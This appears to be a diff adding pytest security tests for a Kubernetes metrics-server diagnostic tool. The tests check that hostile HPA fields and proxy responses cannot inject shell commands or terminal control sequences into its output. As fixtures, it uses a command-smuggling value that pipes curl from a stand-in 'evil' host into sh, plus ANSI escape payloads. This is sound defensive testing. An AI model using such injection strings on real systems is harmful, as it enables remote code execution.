@@ -1,0 +1,86 @@
+"""What a tenant, or a server in the way, writes into objects does no harm to who looks at them."""
+
+import asyncio
+import shlex
+from pathlib import Path
+
+import pytest
+from aiohttp import web
+from aiohttp.test_utils import TestServer
+from msgspec import convert
+
+from metrics_server.doctor.asking import Answered, Asked, Item
+from metrics_server.doctor.checks import hpa_target, selection
+from metrics_server.doctor.explaining import Explained, as_text
+from metrics_server.doctor.hpa import Hpa
+from metrics_server.kube.autoscalers import MetricType
+from metrics_server.kube.labels import Requirement, Selector
+from metrics_server.simulator.kube.objects import Object
+from tests.doctor.running import status_of
+from tests.doctor.scene import PODS_METRIC, hpa
+from tests.doctor.test_hpa_judgements import RULES
+from tests.support.commands import kubeconfig
+
+# Kubernetes checks neither the selector of an HPA's metric, nor much of its names.
+HARM = "x'; curl evil | sh; '"
+SELECTOR = Selector((Requirement("app", "=", (HARM,)),))
+
+
+def words(command: str) -> list[str]:
+    """The words of a command, as a shell reads them."""
+    return shlex.split(command, comments=True)
+
+
+def test_a_command_to_paste_is_one_command() -> None:
+    """Whatever an HPA contains, it remains a word of the command."""
+    asked = Asked("External", HARM, "default", SELECTOR)
+    why_not = as_text([Explained(asked, Answered(error="none", status=404))]).splitlines()[-1]
+    assert HARM in words(why_not)
+    assert f"app={HARM}" in words(why_not)
+    of_pods = Asked("Pods", "gpu_utilization", "default", SELECTOR)
+    fixes = [problem.fix for problem in selection.judge([of_pods], RULES, (), "ready").problems]
+    condition: Object = {"type": "AbleToScale", "status": "False", "reason": "r", "message": "m"}
+    made = hpa(PODS_METRIC, status={"conditions": [condition]})
+    made["spec"] = {**convert(made["spec"], dict), "scaleTargetRef": {"kind": HARM, "name": HARM}}
+    fixes += [one.fix for one in hpa_target.judge(convert(made, Hpa), "default", "h").problems]
+    assert len(fixes) == 2
+    for line in "\n".join(fixes).splitlines():
+        assert "curl" not in words(line)
+
+
+@pytest.mark.parametrize("kind", ["Pods", "External"])
+def test_an_answer_does_not_control_the_terminal(kind: MetricType) -> None:
+    """Another server may answer in this one's place."""
+    harm = "\x1b[2J\x9b"
+    item = Item(harm, harm, {harm: harm}, convert({"name": harm}, type(Item("").described_object)))
+    text = as_text([Explained(Asked(kind, harm, "default", SELECTOR), Answered([item]), ())])
+    assert "[2J" in text
+    assert all(line.isprintable() for line in text.splitlines())
+
+
+@pytest.mark.parametrize(
+    ("answer", "status"),
+    [("<html>log in\x1b[2J</html>", 200), ('{"message": "no\\u001b[2J"}', 403)],
+)
+@pytest.mark.parametrize("command", [["top"], ["ask", "--hpa", "h"], ["ask", "m", "-l", "a=b"]])
+async def test_a_proxy_in_the_way(
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+    command: list[str],
+    answer: str,
+    status: int,
+) -> None:
+    """Its page is not the answer of a Kubernetes API, which is said without a traceback."""
+
+    async def respond(_: web.Request) -> web.Response:
+        return web.Response(text=answer, status=status)
+
+    app = web.Application()
+    app.router.add_route("*", "/{path:.*}", respond)
+    async with TestServer(app) as server:
+        config = kubeconfig(tmp_path, str(server.make_url("")).rstrip("/"))
+        line = [*command, "--kubeconfig", str(config)]
+        assert await asyncio.to_thread(status_of, line)
+    shown = "".join(capsys.readouterr())
+    assert "Traceback" not in shown
+    assert all(one.isprintable() for one in shown.splitlines())
